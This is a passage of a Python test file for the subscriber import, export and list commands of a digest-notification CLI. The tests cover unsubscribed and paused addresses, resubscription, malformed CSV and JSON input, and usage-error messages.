    for address in ("bob@example.org", "cyd@example.org"):
        assert cli("unsubscribe", address)[0] == 0
    assert cli("subscribers", "import", str(path)) == (0, f"imported {path}: 0 added, 0 updated, 1 unchanged, "
                                                          "2 skipped: unsubscribed since (bob@example.org, "
                                                          "cyd@example.org); --resubscribe to add them anyway\n", "")
    assert [(r["address"], r["active"]) for r in listed(cli)] == [
        ("ada@example.org", True), ("bob@example.org", False), ("cyd@example.org", False)]


def test_import_names_the_first_few_unsubscribed_addresses_it_skipped_and_counts_the_rest(cli, tmp_path):
    addresses = [f"u{i}@example.org" for i in range(5)]
    for address in addresses:
        assert cli("subscribe", address, "-k", "agents")[0] == 0
    path = tmp_path / "backup.csv"
    assert cli("subscribers", "export", str(path))[0] == 0
    for address in addresses:
        assert cli("unsubscribe", address)[0] == 0
    assert cli("subscribers", "import", str(path))[1] == (
        f"imported {path}: 0 added, 0 updated, 0 unchanged, 5 skipped: unsubscribed since (u0@example.org, "
        "u1@example.org, u2@example.org and 2 more); --resubscribe to add them anyway\n")


def test_import_leaves_an_unsubscribed_address_as_it_is_unless_resubscribe_is_given(cli, tmp_path):
    for address in ("gone@example.org", "back@example.org", "left@example.org"):
        assert cli("subscribe", address, "-k", "agents")[0] == 0
        assert cli("unsubscribe", address)[0] == 0
    path = tmp_path / "team.csv"
    path.write_text("address,profiles,active\ngone@example.org,robotics,\nback@example.org,robotics,true\n"
                    "left@example.org,robotics,false\n")
    assert cli("subscribers", "import", str(path))[1].endswith(
        ", 1 updated, 0 unchanged, 2 skipped: unsubscribed since (gone@example.org, back@example.org); "
        "--resubscribe to add them anyway\n")
    assert [(r["active"], r["profiles"]) for r in listed(cli)] == [
        (False, ["agents"]), (False, ["agents"]), (False, ["robotics"])]
    assert cli("subscribers", "import", str(path), "--resubscribe")[1] == (
        f"imported {path}: 0 added, 2 updated, 1 unchanged\n")
    assert [(r["active"], r["profiles"]) for r in listed(cli)] == [
        (True, ["robotics"]), (True, ["robotics"]), (False, ["robotics"])]


def test_importing_an_unsubscribed_address_back_with_resubscribe_plans_that_days_digest_again(cli, tmp_path, store):
    """As `notifier subscribe` does: the digest cancelled when they left frees that day's key."""
    assert cli("subscribe", "ada@example.org", "-k", "agents")[0] == 0
    sub_id = store.find_subscriber("ada@example.org").id
    assert store.plan_delivery(subscriber_id=sub_id, digest_day="2026-07-02", items=[], meta={"empty_note": True})
    assert cli("unsubscribe", "ada@example.org")[0] == 0
    path = tmp_path / "team.csv"
    path.write_text("address,profiles,active\nada@example.org,agents,true\n")
    assert cli("subscribers", "import", str(path), "--resubscribe")[0] == 0
    again = store.plan_delivery(subscriber_id=sub_id, digest_day="2026-07-02", items=[], meta={"empty_note": True})
    assert again is not None and again.state == "pending"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_paused_subscriber_stays_paused_through_export_and_import(cli, tmp_path, monkeypatch, fmt):
    for address in ("ada@example.org", "bob@example.org"):
        assert cli("subscribe", address, "-k", "agents")[0] == 0
    assert cli("edit", "ada@example.org", "--pause")[0] == 0
    path = tmp_path / f"all.{fmt}"
    assert cli("subscribers", "export", str(path), "--all")[0] == 0
    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [(r["address"], r["active"], r["paused"]) for r in listed(cli)] == [
        ("ada@example.org", True, True), ("bob@example.org", True, False)]


def test_importing_paused_holds_the_digests_waiting_to_be_sent_and_unpaused_releases_them(cli, tmp_path, store):
    assert cli("subscribe", "ada@example.org", "-k", "agents")[0] == 0
    sub_id = store.find_subscriber("ada@example.org").id
    store.plan_delivery(subscriber_id=sub_id, digest_day="2026-07-02", items=[], meta={"empty_note": True})
    path = tmp_path / "team.jsonl"
    states = []
    for paused in (True, None, False):
        path.write_text(json.dumps({"address": "ada@example.org", "profiles": "agents", "paused": paused}) + "\n")
        assert cli("subscribers", "import", str(path))[0] == 0
        states.append((store.find_subscriber(sub_id).paused, [d.state for d in store.deliveries()]))
    assert states == [(True, ["held"]), (True, ["held"]), (False, ["pending"])]


def test_importing_active_false_cancels_the_digests_waiting_to_be_sent_as_unsubscribe_does(cli, tmp_path, store):
    assert cli("subscribe", "ada@example.org", "-k", "agents")[0] == 0
    sub_id = store.find_subscriber("ada@example.org").id
    store.plan_delivery(subscriber_id=sub_id, digest_day="2026-07-02", items=[], meta={"empty_note": True})
    path = tmp_path / "team.csv"
    path.write_text("address,profiles,active\nada@example.org,agents,false\n")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert [d.state for d in store.deliveries()] == ["cancelled"]
    assert store.find_subscriber(sub_id).active is False


def test_a_csv_cell_too_large_to_read_is_one_line_naming_its_line(cli, tmp_path):
    path = tmp_path / "team.csv"
    path.write_text('address,profiles\nbob@example.org,agents\nada@example.org,"' + "agents, " * 20_000 + 'moe"\n')
    code, out, err = cli("subscribers", "import", str(path))
    assert (code, out) == (1, "")
    assert err == (f"notifier: error: {path}: line 3: not readable as CSV: field larger than field limit (131072)\n"
                   f"{path}: nothing imported (1 bad line)\n")


def test_a_json_array_of_subscribers_is_one_line_asking_for_json_lines(cli, tmp_path):
    path = tmp_path / "team.json"
    path.write_text(json.dumps(ROWS, indent=2))
    code, out, err = cli("subscribers", "import", str(path))
    assert (code, out) == (1, "")
    assert err == (f"notifier: error: {path}: line 1: a JSON array: write one JSON object per line "
                   "(JSON lines, as `notifier subscribers export` writes)\n"
                   f"{path}: nothing imported (1 bad line)\n")


# ----------------------------------------------------------------------------- README claims
def test_a_subscriber_added_on_the_command_line_is_never_touched_by_the_file(cli, tmp_path):
    assert cli("subscribe", "bob@example.org", "-k", "robotics", "--time", "06:00")[0] == 0
    bob = listed(cli)[0]
    config = tmp_path / "c.toml"
    for keywords in ("agents", "diffusion"):                            # the file appears, then changes
        config.write_text(f"[[subscribers]]\nemail = 'ada@example.org'\nkeywords = '{keywords}'\n")
        assert [r for r in listed(cli, "--config", str(config)) if r["address"] == "bob@example.org"] == [bob]
    config.write_text("")                                                # and its subscribers go
    assert [r for r in listed(cli, "--config", str(config)) if r["address"] == "bob@example.org"] == [bob]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_list_in_a_format_prints_the_subscribers_in_it_as_export_does(cli, fmt):
    assert cli("subscribe", "ada@example.org", "-k", "agents", "--name", "Ada")[0] == 0
    code, out, err = cli("subscribers", "list", "--format", fmt)
    assert (code, err) == (0, "")
    assert out == cli("subscribers", "export", "-", "--format", fmt)[1]
    assert out.startswith("id,name,address" if fmt == "csv" else '{"id": 1, "name": "Ada"')


def test_a_json_lines_row_with_an_empty_list_of_profiles_names_its_line_and_column(cli, tmp_path):
    path = tmp_path / "team.jsonl"
    path.write_text('{"address": "ada@example.org", "profiles": ["agents"]}\n'
                    '{"address": "bob@example.org", "profiles": [" "]}\n')
    code, _, err = cli("subscribers", "import", str(path))
    assert (code, err.splitlines()[0]) == (1, f"notifier: error: {path}: line 2: a keyword profile is required: "
                                              "profiles is empty")


def test_export_writes_the_columns_of_subscribers_json(cli, tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in ROWS) + "\n")
    assert cli("subscribers", "import", str(path))[0] == 0
    assert cli("subscribers", "export", str(tmp_path / "out.jsonl"))[0] == 0
    exported = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert exported == listed(cli)


@pytest.mark.parametrize("argv, message", [
    (["import"], "import needs a FILE (.csv or .jsonl), or - for standard input"),
    (["import", "-"], "import - reads standard input: give its format, --format csv or --format jsonl"),
    (["list", "team.csv"], "unexpected 'team.csv': did you mean `notifier subscribers import team.csv`?"),
    (["import", "team.csv", "--all"], "--all is for list and export, not import"),
    (["list", "--resubscribe"], "--resubscribe is for import, not list"),
    (["export", "-", "--resubscribe"], "--resubscribe is for import, not export"),
    (["import", "team.csv", "--json"], "--json is for list, not import"),
    (["list", "--json", "--format", "csv"], "--json prints JSON lines, --format csv CSV: give one of them"),
], ids=["import-without-file", "import-stdin-without-format", "list-with-file", "import-all", "list-resubscribe",
        "export-resubscribe", "import-json", "list-json-and-csv"])
def test_a_subscribers_command_missing_or_given_a_file_wrongly_is_a_usage_error(cli, capsys, argv, message):
    with pytest.raises(SystemExit) as exit_:
        cli("subscribers", *argv)
    assert exit_.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1] == f"notifier subscribers: error: {message}"
